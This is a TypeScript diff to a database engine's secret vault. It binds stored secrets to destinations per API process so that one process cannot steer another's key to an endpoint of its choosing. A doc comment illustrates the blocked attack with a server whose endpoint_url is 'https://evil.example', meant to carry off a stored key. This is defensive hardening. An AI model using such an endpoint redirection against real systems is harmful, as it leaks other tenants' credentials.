@@ -2,6 +2,7 @@ import { createCipheriv, createDecipheriv, randomBytes } from 'node:crypto';
 import { EngineError, SqlState } from '../errors';
 import { NOTIFY_CATALOG_CHANGE } from '../host/catalog-notify';
 import type { Host } from '../host/host';
+import { ProcessWrites } from './process-writes';
 
 const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/i;
 
@@ -79,6 +80,8 @@ export class Vault {
     private readonly host: Host,
     private readonly key: Buffer,
     private readonly scope: VaultKeyScope = 'data directory',
+    /** What this process wrote and freed, on any of its connections (bindings on a shared database). */
+    private readonly writes: ProcessWrites = new ProcessWrites(),
   ) {}
 
   /**
@@ -136,7 +139,7 @@ export class Vault {
   on(host: Host): Vault {
     if (host === this.host) return this;
     let vault = this.onHosts.get(host);
-    if (!vault) this.onHosts.set(host, (vault = new Vault(host, this.key, this.scope)));
+    if (!vault) this.onHosts.set(host, (vault = new Vault(host, this.key, this.scope, this.writes)));
     return vault;
   }
 
@@ -148,13 +151,17 @@ export class Vault {
     return this.scope === 'database';
   }
 
-  /** Stores a secret; returns its uuid. */
+  /**
+   * Stores a secret; returns its uuid. On a shared database, made under a name this process freed
+   * (a rotation by name), it is bound at once to where the old one went (bindFreedName).
+   */
   create(secret: string, name: string | null, description: string | null): Promise<string> {
     return this.host.asOwner(async () => {
       // A name a server's vault_* option may name already: other processes must look again.
       if (name === null || !this.shared) return this.insert(secret, name, description);
       return this.host.transaction(async () => {
         const id = await this.insert(secret, name, description);
+        await this.bindFreedName(id, name);
         await this.host.query(NOTIFY_CATALOG_CHANGE);
         return id;
       });
@@ -179,6 +186,7 @@ export class Vault {
       'insert into dynascope.secret_values (id, nonce, ciphertext, tag) values ($1, $2, $3, $4)',
       [id, nonce, ciphertext, tag],
     );
+    this.writes.wrote(id);
     return id;
   }
 
@@ -197,10 +205,10 @@ export class Vault {
     description: string | null,
   ): Promise<void> {
     const found = await this.host.query(
-      `select id::text from vault.secrets where ${UUID.test(ref) ? 'id = $1::uuid' : 'name = $1'}`,
+      `select id::text, name from vault.secrets where ${UUID.test(ref) ? 'id = $1::uuid' : 'name = $1'}`,
       [ref],
     );
-    const id = found.rows[0]?.[0];
+    const [id, oldName = null] = found.rows[0] ?? [];
     if (!id) throw new EngineError(SqlState.undefinedObject, `vault secret "${ref}" not found`);
     if (
       name !== null &&
@@ -217,13 +225,50 @@ export class Vault {
       // Other API processes may have clients signing with the old value, or with the secret a name
       // named before (a rename is a rotation too).
       if (this.shared) await this.host.query(NOTIFY_CATALOG_CHANGE);
-      if (secret === null) return;
-      const { nonce, ciphertext, tag } = this.encrypt(secret);
-      await this.host.query(
-        'update dynascope.secret_values set nonce = $2, ciphertext = $3, tag = $4 where id = $1::uuid',
-        [id, nonce, ciphertext, tag],
-      );
+      if (secret !== null) {
+        const { nonce, ciphertext, tag } = this.encrypt(secret);
+        await this.host.query(
+          'update dynascope.secret_values set nonce = $2, ciphertext = $3, tag = $4 where id = $1::uuid',
+          [id, nonce, ciphertext, tag],
+        );
+        this.writes.wrote(id);
+      }
+      if (!this.shared) return;
+      if (name !== null && oldName !== null && name !== oldName) await this.freeName(id, oldName);
+      await this.bindFreedName(id, name ?? oldName);
     });
+  }
+
+  /**
+   * A secret renamed away from `name` by this process: if it was bound, a secret this process writes
+   * under that name next goes where it went (a rotation by name; ProcessWrites).
+   */
+  private async freeName(id: string, name: string): Promise<void> {
+    const bound = await this.host.query(
+      'select destination from dynascope.secret_destinations where secret_id = $1::uuid',
+      [id],
+    );
+    const destination = bound.rows[0]?.[0];
+    if (destination) this.writes.freedName(name, destination);
+  }
+
+  /**
+   * On a shared database, binds a secret this process wrote, now named by a name it freed, to where
+   * the secret that had the name went — in the transaction that writes it, so that every process's
+   * server naming the name signs with it at once (a rotation by name across processes):
+   *   process A: select vault.update_secret('k', null, 'k_old'); select vault.create_secret('AKIA…', 'k')
+   *   process B: its server naming 'k' (where 'k_old' goes) → signs with the new 'k'
+   * Any other secret bound nowhere stays so; its first server must be made, or its client built, in
+   * the process that wrote it (refuseUnwritten).
+   */
+  private async bindFreedName(id: string, name: string | null): Promise<void> {
+    const destination = this.writes.destinationFor(id, name);
+    if (destination === undefined) return;
+    await this.host.query(
+      `insert into dynascope.secret_destinations (secret_id, destination) values ($1::uuid, $2)
+       on conflict (secret_id) do nothing`,
+      [id, destination],
+    );
   }
 
   /**
@@ -281,28 +326,77 @@ export class Vault {
     return this.host.asOwner(async () => {
       const args = [secrets.refs, server.oid, secrets.plainOptions, destination];
       if (refuse) await this.refuseElsewhere(server, args, destination);
-      await this.host.query(
-        `${USED_SECRETS}
-         insert into dynascope.secret_destinations (secret_id, destination)
-         select id, $4 from used on conflict (secret_id) do nothing`,
-        args,
-      );
+      if (refuse) await this.refuseUnwritten(server, secrets);
+      await this.bind(args, refuse);
     });
   }
 
-  /** Refuses (42501) a server whose secrets are bound to another destination than `destination` (a client about to be built). */
+  /**
+   * Refuses (42501) a server whose secrets are bound to another destination than `destination` (a
+   * client about to be built). On a shared database, what this process wrote and no server bound yet
+   * is bound now; a secret bound nowhere that it did not write is refused (refuseUnwritten).
+   */
   checkDestination(
     server: { readonly oid: number; readonly name: string },
     secrets: VaultCredentials,
     destination: string,
   ): Promise<void> {
-    return this.host.asOwner(() =>
-      this.refuseElsewhere(
-        server,
-        [secrets.refs, server.oid, secrets.plainOptions, destination],
-        destination,
-      ),
+    return this.host.asOwner(async () => {
+      const args = [secrets.refs, server.oid, secrets.plainOptions, destination];
+      await this.refuseElsewhere(server, args, destination);
+      if (!this.shared) return;
+      await this.refuseUnwritten(server, secrets);
+      await this.bind(args, true);
+    });
+  }
+
+  /**
+   * Binds the secrets of `args` (USED_SECRETS' and the destination, $4) bound nowhere yet. On a
+   * shared database, `onlyWritten` binds only those this process wrote: a secret renamed under a
+   * name in between refuseUnwritten and here is not this process's to bind.
+   */
+  private async bind(args: readonly unknown[], onlyWritten: boolean): Promise<void> {
+    await this.host.query(
+      `${USED_SECRETS}
+       insert into dynascope.secret_destinations (secret_id, destination)
+       select id, $4 from used where $5::text[] is null or id::text = any($5::text[])
+       on conflict (secret_id) do nothing`,
+      [...args, this.shared && onlyWritten ? this.writes.writtenIds() : null],
     );
+  }
+
+  /**
+   * On a database several API processes share (each with its own token), refuses (42501) a server
+   * naming a secret bound to no destination yet whose value this process did not write: its first
+   * server chooses where it goes, and another process's server — made before the owner's, or naming
+   * a name the secret took later — would send it to an endpoint of its choosing (security review
+   * s38-h4). Writing a value here first (vault.update_secret) sends only this process's own value; a
+   * data directory has one process.
+   *   process A: select vault.create_secret('AKIA…', 'k')
+   *   process B: create server s ... (vault_session_token 'k', endpoint_url 'https://evil.example') → 42501
+   */
+  private async refuseUnwritten(
+    server: { readonly oid: number; readonly name: string },
+    secrets: VaultCredentials,
+  ): Promise<void> {
+    if (!this.shared) return;
+    const r = await this.host.query(
+      `${USED_SECRETS}
+       select u.shown from used u
+        where not exists (select 1 from dynascope.secret_destinations d where d.secret_id = u.id)
+          and u.id::text <> all($4::text[])
+        order by u.shown limit 1`,
+      [secrets.refs, server.oid, secrets.plainOptions, this.writes.writtenIds()],
+    );
+    const shown = r.rows[0]?.[0];
+    if (shown !== undefined)
+      throw new EngineError(
+        SqlState.insufficientPrivilege,
+        `vault secret "${shown}" goes nowhere yet: server "${server.name}" may send it only from the API process that wrote it`,
+        {
+          hint: "on a database several API processes share, a key's first server must be made, or its client built, where the key was written; write it here first (select vault.update_secret('<id or name>', '<secret>')) or make the server in the process that wrote it",
+        },
+      );
   }
 
   private async refuseElsewhere(
